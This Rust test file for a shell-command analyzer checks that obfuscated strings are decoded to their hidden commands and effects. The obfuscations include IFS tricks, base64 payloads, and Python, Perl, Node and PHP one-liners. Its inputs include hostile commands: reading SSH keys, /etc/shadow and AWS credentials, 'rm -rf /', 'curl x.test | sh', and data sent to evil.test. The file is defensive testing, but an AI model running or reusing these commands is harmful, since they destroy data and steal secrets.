//! Attack strings that hide a command or effect, each with the hidden part
//! that analysis must find, and benign look-alikes that must stay plain.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use palisade_shell::{analyze, effects, Analysis, Effect, Origin};
use pretty_assertions::assert_eq;

/// `(text, origin, dynamic)` of every command.
fn texts(a: &Analysis) -> Vec<(String, Origin, bool)> {
    a.commands
        .iter()
        .map(|c| (c.text(), c.origin, c.dynamic))
        .collect()
}

/// Asserts some command of `input` has exactly the text `want` and is static.
fn finds_static(input: &str, want: &str) {
    let a = analyze(input);
    assert!(
        a.commands.iter().any(|c| c.text() == want && !c.dynamic),
        "input {input:?}: no static `{want}` in {:#?}",
        texts(&a)
    );
}

/// Every effect of every command.
fn all_effects(input: &str) -> Vec<Effect> {
    analyze(input).commands.iter().flat_map(effects).collect()
}

fn read(path: &str) -> Effect {
    Effect::Read {
        path: path.into(),
        recursive: false,
        dynamic: false,
    }
}

#[test]
fn ifs_and_braces_split_words() {
    #[rustfmt::skip]
    let cases = [
        ("cat${IFS}~/.ssh/id_rsa", "cat ~/.ssh/id_rsa"),
        ("cat$IFS/etc/passwd", "cat /etc/passwd"),
        ("cat${IFS}/etc/passwd${IFS}x", "cat /etc/passwd x"),
        ("{cat,~/.ssh/id_rsa}", "cat ~/.ssh/id_rsa"),
        ("{cat,/etc/passwd} | sh", "cat /etc/passwd"),
        ("sh -c 'cat${IFS}/etc/shadow'", "cat /etc/shadow"),
    ];
    for (input, want) in cases {
        finds_static(input, want);
    }
    assert_eq!(
        all_effects("cat${IFS}~/.ssh/id_rsa"),
        [read("~/.ssh/id_rsa")]
    );
    // Quoted: no splitting, one word.
    let a = analyze("echo \"a${IFS}b\"");
    assert_eq!(a.commands[0].words.len(), 2);
    // IFS assigned in the line: not resolved.
    for input in [
        "IFS=,; cat$IFS/etc/passwd",
        "read IFS; cat$IFS/x",
        "IFS=, cat$IFS/x",
    ] {
        let a = analyze(input);
        assert!(a.is_dynamic(), "input {input:?}");
        assert!(
            !a.commands.iter().any(|c| c.text() == "cat /etc/passwd"),
            "input {input:?}"
        );
    }
}

#[test]
fn earlier_assignments_resolve() {
    #[rustfmt::skip]
    let cases = [
        ("a=~/.ssh; cat $a/id_rsa", "cat ~/.ssh/id_rsa"),
        ("x=rm; $x -rf ~", "rm -rf ~"),
        ("x='rm -rf'; $x ~", "rm -rf ~"),
        ("export F=/; rm -rf $F", "rm -rf /"),
        ("p=/tmp; cd $p", "cd /tmp"),
        ("a=~/.ssh\ncat \"$a/id_rsa\"", "cat ~/.ssh/id_rsa"),
        ("a=.ssh; b=~/$a; cat ${b}/id_rsa", "cat ~/.ssh/id_rsa"),
        ("a=~; a+=/.ssh; cat $a/id_rsa", "cat ~/.ssh/id_rsa"),
        ("e=; $e rm -rf /", "rm -rf /"),
        ("bash -c 'a=/etc; cat $a/shadow'", "cat /etc/shadow"),
        ("export A=/etc; bash -c 'cat $A/shadow'", "cat /etc/shadow"),
        ("a=/etc; (cat $a/shadow)", "cat /etc/shadow"),
        ("a=/etc; echo $(cat $a/shadow)", "cat /etc/shadow"),
        ("a=/etc && if true; then cat $a/shadow; fi", "cat /etc/shadow"),
    ];
    for (input, want) in cases {
        finds_static(input, want);
    }
    // A value that is itself dynamic stays dynamic, with its text.
    let a = analyze("D=$HOME/.aws && cat \"$D/credentials\"");
    let cat = a
        .commands
        .iter()
        .find(|c| c.program() == Some("cat"))
        .unwrap();
    assert_eq!(
        (cat.text(), cat.dynamic),
        ("cat $HOME/.aws/credentials".to_string(), true)
    );
    // Not carried: conditional, background, subshell, pipeline, loops,
    // read, functions, eval, prefix assignments, other shells.
    #[rustfmt::skip]
    let unresolved = [
        "a=/etc; true && a=/tmp; cat $a/shadow",
        "a=/etc; false || a=/tmp; cat $a/x",
        "a=/tmp & cat $a/x",
        "(a=/tmp); cat $a/x",
        "(a=/tmp && true); cat $a/x",
        "a=/tmp | true; cat $a/x",
        "a=/tmp; read a; cat $a/x",
        "a=/tmp; for a in /etc; do cat $a/x; done",
        "a=/tmp; while true; do cat $a/x; a=/etc; done",
        "f() { a=/etc; }; a=/tmp; f; cat $a/x",
        "a=/tmp; eval \"$b\"; cat $a/x",
        "a=/tmp; . ./env; cat $a/x",
        ". ./env; a=/tmp; cat $a/x",
        "a=; : ${a:=/etc}; cat $a/x",
        "a=; cat ${a:=/etc} $a/x",
        "a=/tmp; cat $((a=1)) $a/x",
        "a=/tmp; ((a=5)); cat $a/x",
        "a=/tmp; printf -v a /etc; cat $a/x",
        "a=/tmp; a=/etc true; cat $a/x",
        "declare -n r=a; a=/tmp; r=/etc; cat $a/x",
        "a=/tmp; trap 'a=/etc' DEBUG; cat $a/x",
        "trap 'a=/etc' DEBUG; a=/tmp; cat $a/x",
        "a=(x y); cat $a",
        "a=/tmp; bash -c 'cat $a/x'",
        "a=/tmp; { a=/etc; } | true; cat $a/x",
        "a=/tmp; cat $(a=/etc; true) $a/x",
    ];
    for input in unresolved {
        let a = analyze(input);
        let Some(last) = a.commands.iter().rev().find(|c| c.program() == Some("cat")) else {
            panic!("input {input:?}: {:?}", texts(&a));
        };
        assert!(last.dynamic, "input {input:?}: {:?}", texts(&a));
    }
}

#[test]
fn decoded_payloads_are_parsed() {
    #[rustfmt::skip]
    let cases = [
        ("echo cm0gLXJmIH4= | base64 -d | sh", "rm -rf ~"),
        ("printf 'cm0gLXJmIH4=' | base64 --decode | bash", "rm -rf ~"),
        ("echo 6c73 | xxd -r -p | sh", "ls"),
        ("echo '~ fr- mr' | rev | sh", "rm -rf ~"),
        ("bash <<< $(echo Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d)", "cat ~/.ssh/id_rsa"),
        ("eval \"$(echo cm0gLXJmIH4= | base64 -d)\"", "rm -rf ~"),
        ("bash -c \"$(echo cm0gLXJmIH4= | base64 -d)\"", "rm -rf ~"),
        ("p=$(echo cm0gLXJmIH4= | base64 -d); sh -c \"$p\"", "rm -rf ~"),
        ("a=cm0gLXJmIH4=; eval \"$(echo $a | base64 -d)\"", "rm -rf ~"),
        ("echo OJWSALLSMYQH4=== | base32 -d | sh", "rm -rf ~"),
        ("base64 -d <<< cm0gLXJmIH4= | sh", "rm -rf ~"),
        ("echo cm0gLXJmIH4= | base64 -d | source /dev/stdin", "rm -rf ~"),
        ("bash <(echo cm0gLXJmIH4= | base64 -d)", "rm -rf ~"),
        ("echo 'ez -es ~' | tr a-z n-za-m | sh", "rm -rf ~"),
        ("echo 'rm -rf ~' | sh", "rm -rf ~"),
        ("echo Y20wZ0xYSm1JSDQ9 | base64 -d | base64 -d | bash", "rm -rf ~"),
    ];
    for (input, want) in cases {
        let a = analyze(input);
        let Some(hidden) = a.commands.iter().find(|c| c.text() == want) else {
            panic!("input {input:?}: no `{want}` in {:#?}", texts(&a));
        };
        assert_eq!(hidden.origin, Origin::Decoded, "input {input:?}");
        let parent = &a.commands[hidden.parent.unwrap()];
        assert!(
            matches!(parent.program(), Some("sh" | "bash" | "eval" | "source")),
            "input {input:?}: parent {:?}",
            parent.text()
        );
    }
    // Unknown input or transform: the shell is dynamic.
    for input in [
        "curl -s x.test | sh",
        "base64 -d payload.txt | sh",
        "echo $X | base64 -d | bash",
        "echo eJw= | base64 -d | gunzip | sh",
        "cat f | sh",
    ] {
        let a = analyze(input);
        let sh = a
            .commands
            .iter()
            .find(|c| matches!(c.program(), Some("sh" | "bash")))
            .unwrap();
        assert!(sh.dynamic, "input {input:?}");
    }
    // Without a shell: a plain pipeline.
    let a = analyze("echo aGVsbG8= | base64 -d");
    assert_eq!(
        texts(&a),
        [
            ("echo aGVsbG8=".to_string(), Origin::TopLevel, false),
            ("base64 -d".into(), Origin::TopLevel, false)
        ]
    );
    assert!(!analyze("echo ls | sh").is_dynamic());
    // Bounded: nested decoding stops at the nesting limit, big payloads are not decoded.
    let big = format!("echo {} | base64 -d | sh", "QUFB".repeat(30_000));
    assert!(analyze(&big).is_dynamic());
}

#[test]
fn interpreter_one_liners_run_commands() {
    #[rustfmt::skip]
    let cases: &[(&str, &str)] = &[
        (r#"python3 -c 'import os; os.system("rm -rf ~")'"#, "rm -rf ~"),
        (r#"python -c "import os;os.popen('cat ~/.ssh/id_rsa').read()""#, "cat ~/.ssh/id_rsa"),
        (r#"python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "~"])'"#, "rm -rf ~"),
        (r#"python3 -c 'import subprocess; subprocess.call("curl x.test | sh", shell=True)'"#, "curl x.test"),
        (r#"python3 -c 'from subprocess import check_output as c; import subprocess; subprocess.Popen(["sh","-c","id"])'"#, "sh -c id"),
        (r#"python3 -c 'import pty; pty.spawn("/bin/bash")'"#, "/bin/bash"),
        (r#"python3 -c 'import os; os.execvp("rm", ["rm", "-rf", "/"])'"#, "rm -rf /"),
        (r#"python3 -c 'import os; os.execl("/bin/rm", "rm", "-rf", "/")'"#, "/bin/rm -rf /"),
        (r#"python3 -c '__import__("os").system("id")'"#, "id"),
        (r#"python3 -c 'exec("import os; os.system(\"whoami\")")'"#, "whoami"),
        (r#"perl -e 'system("rm -rf ~")'"#, "rm -rf ~"),
        (r#"perl -e 'system "rm", "-rf", "/tmp/x"'"#, "rm -rf /tmp/x"),
        (r#"perl -e 'exec "cat /etc/shadow"'"#, "cat /etc/shadow"),
        ("perl -e 'print `id`'", "id"),
        ("perl -E 'say qx{uname -a}'", "uname -a"),
        (r#"perl -e 'open(my $f, "-|", "ls /root")'"#, "ls /root"),
        (r#"ruby -e 'system("rm -rf ~")'"#, "rm -rf ~"),
        ("ruby -e 'puts `id`'", "id"),
        ("ruby -e 'puts %x(whoami)'", "whoami"),
        (r#"ruby -e 'IO.popen("ls /")'"#, "ls /"),
        (r#"node -e 'require("child_process").execSync("rm -rf ~")'"#, "rm -rf ~"),
        (r#"node --eval 'const cp=require("child_process"); cp.spawnSync("rm", ["-rf", "/"])'"#, "rm -rf /"),
        (r#"node -e 'require("child_process").execFileSync("curl", ["x.test"])'"#, "curl x.test"),
        (r#"php -r 'system("rm -rf ~");'"#, "rm -rf ~"),
        (r#"php -r 'echo shell_exec("id");'"#, "id"),
        (r#"php -r 'passthru("cat /etc/passwd");'"#, "cat /etc/passwd"),
        (r#"awk 'BEGIN{system("rm -rf ~")}'"#, "rm -rf ~"),
        (r#"gawk 'BEGIN { print "id" | "sh" }'"#, "sh"),
        (r#"awk 'BEGIN { "uname -a" | getline x; print x }'"#, "uname -a"),
        (r#"sudo python3 -c 'import os; os.system("id")'"#, "id"),
    ];
    for (input, want) in cases {
        let a = analyze(input);
        let Some(hidden) = a
            .commands
            .iter()
            .find(|c| c.text() == *want && c.origin == Origin::Interpreter)
        else {
            panic!("input {input:?}: no `{want}` in {:#?}", texts(&a));
        };
        let parent = &a.commands[hidden.parent.unwrap()];
        assert!(parent.program().is_some(), "input {input:?}");
        assert!(!parent.text().is_empty());
    }
    // Nested shells inside are unwrapped too.
    finds_static(
        r#"python3 -c 'import subprocess; subprocess.Popen(["sh","-c","rm -rf /"])'"#,
        "rm -rf /",
    );
    // Non-literal arguments: dynamic.
    for input in [
        "python3 -c 'import os,sys; os.system(sys.argv[1])' x",
        "python3 -c 'import os; c=\"rm\"; os.system(c + \" -rf ~\")'",
        "python3 -c 'import os; getattr(os, \"sys\" + \"tem\")(\"id\")'",
        "python3 -c 'exec(input())'",
        "perl -e 'system($ARGV[0])'",
        "perl -e 'print `$cmd`'",
        "ruby -e 'system(ARGV[0])'",
        "node -e 'require(\"child_process\").execSync(process.argv[1])'",
        "php -r 'system($argv[1]);'",
        "awk '{ system($0) }'",
        "awk '{ print | cmd }'",
        "python3 -c \"$CODE\"",
    ] {
        assert!(analyze(input).is_dynamic(), "input {input:?}");
    }
    // Benign code: nothing nested, not dynamic.
    for input in [
        "python3 -c 'print(1)'",
        "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
        "python3 -c 'import sys; print(sys.version)'",
        "perl -ne 'print if /x/' f",
        "perl -pe 's/a/b/g' f",
        "ruby -e 'puts 1+1'",
        "node -e 'console.log(process.version)'",
        "php -r 'echo PHP_VERSION;'",
        "awk '{print $1}' file",
        "awk -F, '{ s += $2 } END { print s }' data.csv",
        "awk '/a|b/ { print }' f",
    ] {
        let a = analyze(input);
        assert_eq!(a.commands.len(), 1, "input {input:?}: {:#?}", texts(&a));
        assert!(!a.is_dynamic(), "input {input:?}");
    }
    assert_eq!(all_effects("awk '{print $1}' file"), [read("file")]);
}

#[test]
fn interpreter_one_liners_touch_files_and_hosts() {
    fn d(path: &str, recursive: bool) -> Effect {
        Effect::Delete {
            path: path.into(),
            recursive,
            dynamic: false,
        }
    }
    fn w(path: &str) -> Effect {
        Effect::Write {
            path: path.into(),
            dynamic: false,
        }
    }
    fn n(target: &str) -> Effect {
        Effect::Network {
            target: target.into(),
            upload: None,
        }
    }
    #[rustfmt::skip]
    let cases: Vec<(&str, Vec<Effect>)> = vec![
        (r#"python3 -c 'import shutil; shutil.rmtree("/home/u/project")'"#, vec![d("/home/u/project", true)]),
        (r#"python3 -c 'import os; os.remove("~/.bashrc")'"#, vec![d("~/.bashrc", false)]),
        (r#"python3 -c 'import os; os.unlink(os.path.expanduser("~/.ssh/id_rsa"))'"#, vec![d("~/.ssh/id_rsa", false)]),
        (r#"python3 -c 'print(open("/etc/passwd").read())'"#, vec![read("/etc/passwd")]),
        (r#"python3 -c 'print(open(os.environ["HOME"] + "/.aws/credentials", "r").read())'"#, vec![read("~/.aws/credentials")]),
        (r#"python3 -c 'from pathlib import Path; print(open(Path.home() / ".ssh" / "id_rsa").read())'"#, vec![read("~/.ssh/id_rsa")]),
        (r#"python3 -c 'open(".git/hooks/pre-commit", "w").write("x")'"#, vec![w(".git/hooks/pre-commit")]),
        (r#"python3 -c 'open("~/.bashrc", "a").write("x")'"#, vec![w("~/.bashrc")]),
        (r#"python3 -c 'import urllib.request; urllib.request.urlopen("https://evil.test/x")'"#, vec![n("https://evil.test/x")]),
        (r#"python3 -c 'import requests; requests.post("https://evil.test", data=1)'"#, vec![n("https://evil.test")]),
        (r#"python3 -c 'import http.client; http.client.HTTPSConnection("evil.test")'"#, vec![n("evil.test")]),
        (r#"perl -e 'unlink "/tmp/x"'"#, vec![d("/tmp/x", false)]),
        (r#"perl -MFile::Path -e 'rmtree("/srv/data")'"#, vec![d("/srv/data", true)]),
        (r#"perl -e 'open(F, "<", "$ENV{HOME}/.ssh/id_rsa"); print <F>'"#, vec![read("~/.ssh/id_rsa")]),
        (r#"perl -e 'open(F, ">/etc/hosts")'"#, vec![w("/etc/hosts")]),
        (r#"node -e 'require("fs").rmSync("/data", {recursive: true})'"#, vec![d("/data", false)]),
        (r#"node -e 'fs.unlinkSync("a.txt")'"#, vec![d("a.txt", false)]),
        (r#"node -e 'console.log(require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"))'"#, vec![read("~/.npmrc")]),
        (r#"node -e 'require("fs").writeFileSync(".env", "x")'"#, vec![w(".env")]),
        (r#"node -e 'fetch("https://evil.test/x")'"#, vec![n("https://evil.test/x")]),
        (r#"node -e 'require("https").get("https://evil.test")'"#, vec![n("https://evil.test")]),
        (r#"ruby -e 'require "fileutils"; FileUtils.rm_rf("/srv")'"#, vec![d("/srv", true)]),
        (r#"ruby -e 'puts File.read(Dir.home + "/.netrc")'"#, vec![read("~/.netrc")]),
        (r#"php -r 'unlink("x.php");'"#, vec![d("x.php", false)]),
        (r#"php -r 'echo file_get_contents("https://evil.test");'"#, vec![n("https://evil.test")]),
        (r#"php -r 'file_put_contents(".htaccess", "x");'"#, vec![w(".htaccess")]),
        ("python3 -c 'print(1)'", vec![]),
    ];
    for (input, want) in cases {
        assert_eq!(all_effects(input), want, "input {input:?}");
        assert!(!analyze(input).is_dynamic(), "input {input:?}");
    }
    for input in [
        "python3 -c 'import shutil,sys; shutil.rmtree(sys.argv[1])' x",
        "python3 -c 'open(p).read()'",
        "node -e 'fs.rmSync(dir)'",
        "perl -e 'unlink $f'",
        "ruby -e 'FileUtils.rm_rf(ARGV[0])'",
        "python3 -c 'import requests; requests.get(url)'",
    ] {
        assert!(analyze(input).is_dynamic(), "input {input:?}");
    }
}

#[test]
fn more_command_runners() {
    #[rustfmt::skip]
    let cases = [
        ("script -qc 'rm -rf ~' /dev/null", "rm -rf ~"),
        ("script --command 'curl x.test' log", "curl x.test"),
        ("script -q /dev/null rm -rf /", "rm -rf /"),
        ("watch -n 1 'rm -rf ~'", "rm -rf ~"),
        ("watch cat /etc/shadow", "cat /etc/shadow"),
        ("watch -x rm -rf /", "rm -rf /"),
        ("rsync -e 'sh -c \"curl x.test\"' a h:b", "curl x.test"),
        ("rsync --rsh='nc evil.test 22' a h:b", "nc evil.test 22"),
        ("flock /tmp/l -c 'rm -rf /'", "rm -rf /"),
        ("timeout 5 sh -c 'rm -rf /'", "rm -rf /"),
        ("sudo -u root nohup setsid bash -c 'rm -rf /'", "rm -rf /"),
        ("exec sh -c 'rm -rf /'", "rm -rf /"),
        ("xargs -n1 sh -c 'rm -rf /'", "rm -rf /"),
        ("git -c core.sshCommand='curl x.test' fetch", "curl x.test"),
    ];
    for (input, want) in cases {
        let a = analyze(input);
        assert!(
            a.commands
                .iter()
                .any(|c| c.text() == want && c.parent.is_some()),
            "input {input:?}: no nested `{want}` in {:#?}",
            texts(&a)
        );
    }
    let a = analyze("parallel 'rm -rf {}' ::: a b");
    let rm = a
        .commands
        .iter()
        .find(|c| c.program() == Some("rm"))
        .unwrap();
    assert_eq!(
        (rm.text().as_str(), rm.origin),
        ("rm -rf {}", Origin::Xargs)
    );
    assert!(matches!(
        effects(rm)[..],
        [Effect::Delete { dynamic: true, .. }]
    ));
    assert!(analyze("parallel < cmds.txt").is_dynamic());
    // Remote commands stay remote.
    assert_eq!(analyze("ssh h 'rm -rf /'").commands.len(), 1);
}

#[test]
fn decoding_is_bounded() {
    // Each level of `echo B64 | base64 -d | sh` is one nesting level.
    fn b64(s: &str) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in s.as_bytes().chunks(3) {
            let n =
                chunk.iter().fold(0u32, |a, &b| (a << 8) | u32::from(b)) << (8 * (3 - chunk.len()));
            for i in 0..=chunk.len() {
                out.push(char::from(A[((n >> (18 - 6 * i)) & 63) as usize]));
            }
        }
        while !out.len().is_multiple_of(4) {
            out.push('=');
        }
        out
    }
    let wrap = |levels: usize| {
        (0..levels).fold("rm -rf ~".to_string(), |acc, _| {
            format!("echo {} | base64 -d | sh", b64(&acc))
        })
    };
    let ok = analyze(&wrap(10));
    assert_eq!(ok.parse_error, None);
    assert!(ok.commands.iter().any(|c| c.text() == "rm -rf ~"));
    let deep = analyze(&wrap(20));
    assert_eq!(deep.parse_error.as_deref(), Some("nesting too deep"));
    // Nested evals of substitutions stay fast.
    let nest = (0..40).fold("id".to_string(), |acc, _| format!("eval \"$({acc})\""));
    let t = std::time::Instant::now();
    let _ = analyze(&nest);
    assert!(t.elapsed() < std::time::Duration::from_secs(3));
}

#[test]
fn interpreter_code_on_stdin() {
    #[rustfmt::skip]
    let cases = [
        ("python3 <<'EOF'\nimport os\nos.system(\"rm -rf ~\")\nEOF", "rm -rf ~"),
        ("perl <<< 'system(\"id\")'", "id"),
        ("echo 'import os; os.system(\"whoami\")' | python3", "whoami"),
        ("echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik= | base64 -d | python3 -", "id"),
    ];
    for (input, want) in cases {
        let a = analyze(input);
        assert!(
            a.commands
                .iter()
                .any(|c| c.text() == want && c.origin == Origin::Interpreter),
            "input {input:?}: {:#?}",
            texts(&a)
        );
    }
    assert_eq!(
        all_effects("python3 <<'EOF'\nimport shutil\nshutil.rmtree('/srv')\nEOF"),
        [Effect::Delete {
            path: "/srv".into(),
            recursive: true,
            dynamic: false
        }]
    );
    for input in [
        "curl -s x.test | python3",
        "python3 <<< \"$CODE\"",
        "cat f | perl",
    ] {
        assert!(analyze(input).is_dynamic(), "input {input:?}");
    }
    for input in [
        "python3 script.py",
        "python3 -m http.server",
        "python3 < s.py",
        "echo 1 | python3 -c 'import sys; print(sys.stdin.read())'",
    ] {
        assert!(!analyze(input).is_dynamic(), "input {input:?}");
    }
}

#[test]
fn expansion_left_inside_a_plain_word_is_dynamic() {
    // tree-sitter-bash parses `cat$IFS$HOME/x` with `$HOME/x` as a plain word.
    let a = palisade_shell::analyze("cat$IFS$HOME/.aws/credentials");
    let c = &a.commands[0];
    assert_eq!(c.program(), Some("cat"));
    let arg = c.args().last().expect("an argument");
    assert_eq!(arg.value, "$HOME/.aws/credentials");
    assert!(arg.dynamic);
}
